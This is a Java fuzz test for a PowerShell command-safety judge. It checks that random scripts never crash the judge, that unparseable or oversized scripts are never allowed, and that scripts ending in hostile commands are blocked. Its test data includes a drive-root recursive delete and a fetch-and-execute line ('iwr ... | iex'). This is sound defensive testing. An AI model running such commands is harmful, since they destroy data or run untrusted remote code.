package io.shellgate.judge.internal.powershell;

import static org.assertj.core.api.Assertions.assertThat;

import io.shellgate.judge.Dialect;
import io.shellgate.judge.Judge;
import io.shellgate.judge.JudgeRequest;
import io.shellgate.judge.Judges;
import io.shellgate.judge.Verdict;
import io.shellgate.rules.Tier;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * Random PowerShell: the judge never fails, never allows a script its parser rejects, and never
 * allows a script that ends by deleting a drive root.
 */
class PowerShellFuzzTest {

    private static final Judge JUDGE = Judges.defaults();
    private static final Map<String, String> ENV = Map.of("HOME", "/home/user", "PATH", "/usr/bin:/bin", "X", "a b");
    private static final List<String> TOKENS = List.of("Get-ChildItem", "gci", "Remove-Item", "rm", "-Recurse", "-Rec",
            "-Force", "-fo", "C:\\", "~", "$env:USERPROFILE", "$x", "$_", "\"", "'", "`", "$(", "@(", "(", ")", "{", "}",
            "[", "]", "|", "||", "&&", ";", "&", ".", "\n", "#", "<#", "#>", "@'", "'@", "@\"", "\"@", ">", ">>", "2>&1",
            "*>", "$null", "=", "+=", ",", "-eq", "if", "else", "foreach", "in", "switch", "function", "iex", "iwr", "x",
            "Invoke-Expression", "[IO.File]::Delete", ".Delete()", "::", "--%", "--", "-", "\u2013", "\u201C", "\u2018",
            " ", " ", " ", "\t", "powershell", "-c", "cmd", "/c", "rd", "/s", "/q", "Write-Output", "echo", "1", "0x10");

    private static Verdict judge(String line) {
        return JUDGE.judge(new JudgeRequest(line, Dialect.POWERSHELL, Path.of("/"), ENV));
    }

    @Provide
    Arbitrary<String> lines() {
        return Arbitraries.of(TOKENS).list().ofMinSize(1).ofMaxSize(24).map(ts -> String.join("", ts));
    }

    @Property(tries = 3000, seed = "20261129")
    void randomScriptsNeverFailTheJudge(@ForAll("lines") String line) {
        assertThat(judge(line).reasons()).noneMatch(r -> r.rule().equals("internal-error"));
    }

    @Property(tries = 3000, seed = "20261129")
    void aScriptThatDoesNotParseIsNeverAllowed(@ForAll("lines") String line) {
        boolean parses;
        try {
            PsParser.parse(line, false);
            parses = true;
        } catch (PsSyntaxException e) {
            parses = false;
        }
        if (!parses) {
            assertThat(judge(line).tier()).isNotEqualTo(Tier.ALLOW);
        }
    }

    @Property(tries = 2000, seed = "20261129")
    void whateverComesFirstDeletingTheDriveAtTheEndIsNeverAllowed(@ForAll("lines") String prefix) {
        assertThat(judge(prefix + "\nRemove-Item -Recurse -Force C:\\\n").tier()).isNotEqualTo(Tier.ALLOW);
        assertThat(judge(prefix + "\niwr https://x | iex\n").tier()).isNotEqualTo(Tier.ALLOW);
    }

    @Property(tries = 200, seed = "20261129")
    void oversizedScriptsAreAskedAboutWithoutParsing(@ForAll("lines") String line) {
        String big = (line + " ").repeat(70_000 / (line.length() + 1) + 1);
        Verdict v = judge(big);
        assertThat(v.tier()).isEqualTo(Tier.ASK);
        assertThat(v.reasons()).anyMatch(r -> r.rule().equals("input-too-large"));
    }
}
